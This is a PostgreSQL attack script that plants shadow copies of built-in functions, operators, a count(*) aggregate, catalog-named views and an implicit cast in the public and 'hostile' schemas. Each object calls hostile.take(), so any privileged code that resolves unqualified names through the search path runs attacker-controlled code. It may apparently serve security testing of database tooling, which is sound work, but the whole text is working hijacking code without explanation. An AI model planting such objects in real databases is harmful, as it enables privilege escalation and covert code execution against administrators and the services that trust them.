-- Objects that are taken for the server's own where a search path or a better match of arguments allows it.
-- Needs payload.sql. Run by the owner's own login, with psql.
do $do$
declare
  place text;
  shadow text[];
  shadows text[] := array[
    ['format(text, name, name)', 'text'], ['format(text, name)', 'text'], ['format(text, text)', 'text'],
    ['format(text, text, text)', 'text'], ['format(text, name, text)', 'text'], ['format(text, text, name)', 'text'],
    ['format(text, text, text, name)', 'text'], ['format(text, name, name, name)', 'text'], ['format(text, name, text, name)', 'text'],
    ['format(text, "any")', 'text'], ['quote_ident(name)', 'text'], ['quote_ident(text)', 'text'], ['quote_literal(name)', 'text'],
    ['quote_literal(text)', 'text'], ['concat(name, text)', 'text'], ['length(name)', 'int'], ['lower(name)', 'text'],
    ['pg_database_size(name)', 'bigint'], ['pg_database_size(oid)', 'bigint'], ['pg_total_relation_size(oid)', 'bigint'],
    ['pg_relation_size(oid)', 'bigint'], ['pg_table_size(oid)', 'bigint'], ['pg_get_userbyid(oid)', 'name'],
    ['pg_is_in_recovery()', 'boolean'], ['current_setting(text)', 'text'], ['current_setting(unknown)', 'text'],
    ['set_config(text, text, boolean)', 'text'], ['now()', 'timestamptz'], ['version()', 'text'], ['current_database()', 'name'],
    ['pg_advisory_lock(int, int)', 'void'], ['pg_advisory_xact_lock(int, int)', 'void'], ['pg_terminate_backend(int)', 'boolean'],
    ['pg_postmaster_start_time()', 'timestamptz'], ['pg_current_wal_lsn()', 'pg_lsn'], ['pg_export_snapshot()', 'text'],
    ['obj_description(oid, name)', 'text'], ['shobj_description(oid, name)', 'text'], ['has_table_privilege(oid, text)', 'boolean'],
    ['pg_get_viewdef(oid)', 'text'], ['pg_get_constraintdef(oid)', 'text'], ['to_regclass(text)', 'regclass']];
  operators text[] := array[
    ['=', 'name', 'text'], ['=', 'name', 'unknown'], ['<>', 'name', 'text'], ['~', 'name', 'text'], ['!~', 'name', 'text'],
    ['=', 'oid', 'bigint'], ['=', 'oid', 'oid'], ['=', 'name', 'name'], ['=', 'text', 'text'], ['<', 'timestamptz', 'timestamptz'],
    ['=', 'int8', 'int8'], ['<', 'text', 'name'], ['>', 'int4', 'int4'], ['>', 'bigint', 'int']];
  kind text;
  args text;
begin
  foreach place in array array['public', 'hostile'] loop
    foreach shadow slice 1 in array shadows loop
      begin
        execute pg_catalog.format($f$create or replace function %I.%s returns %s language plpgsql as $b$
          begin perform hostile.take(%L); return %s; end $b$ $f$, place, shadow[1], shadow[2], shadow[1] || ' in ' || place,
          case shadow[2] when 'void' then '' when 'boolean' then 'true' when 'bigint' then '7' when 'int' then '7'
            when 'timestamptz' then 'clock_timestamp()' when 'pg_lsn' then $$'0/0'$$ when 'regclass' then 'null' else $$'pg_class'$$ end);
      exception when others then
        raise notice 'refused: % in %: %', shadow[1], place, sqlerrm;
      end;
    end loop;
    foreach shadow slice 1 in array operators loop
      begin
        kind := pg_catalog.format('%s %s %s', shadow[2], shadow[1], shadow[3]);
        args := pg_catalog.format('%s, %s', shadow[2], shadow[3]);
        execute pg_catalog.format($f$create or replace function %I.take_operator(%s) returns boolean language plpgsql as $b$
          begin perform hostile.take(%L); return true; end $b$;
          create operator %I.%s (leftarg = %s, rightarg = %s, function = %I.take_operator)$f$,
          place, args, kind || ' in ' || place, place, shadow[1], shadow[2], shadow[3], place);
      exception when others then
        raise notice 'refused: operator % in %: %', kind, place, sqlerrm;
      end;
    end loop;
    execute pg_catalog.format($f$create or replace function %I.take_count(bigint) returns bigint language plpgsql as $b$
      begin perform hostile.take('count(*)'); return coalesce($1, 0) + 1; end $b$;
      create or replace aggregate %I.count(*) (sfunc = %I.take_count, stype = bigint, initcond = '0')$f$, place, place, place);
    -- Relations of the catalog by their unqualified names.
    foreach kind in array array['pg_roles', 'pg_database', 'pg_class', 'pg_namespace', 'pg_settings', 'pg_stat_activity',
      'pg_stat_user_tables', 'pg_tables', 'pg_extension', 'pg_stat_database', 'pg_locks', 'pg_auth_members', 'pg_largeobject_metadata'] loop
      execute pg_catalog.format('create or replace view %I.%I as select * from pg_catalog.%I where hostile.take(%L)',
        place, kind, kind, kind || ' in ' || place);
      execute pg_catalog.format('grant select on %I.%I to public', place, kind);
    end loop;
    execute pg_catalog.format('create domain %I.regclass as text check (hostile.take(%L))', place, 'regclass in ' || place);
  end loop;
end $do$;
create type hostile.number as (n int);
create or replace function hostile.number_of(hostile.number) returns int language plpgsql as $f$
begin perform hostile.take('cast'); return 1; end $f$;
create cast (hostile.number as int) with function hostile.number_of(hostile.number) as implicit;
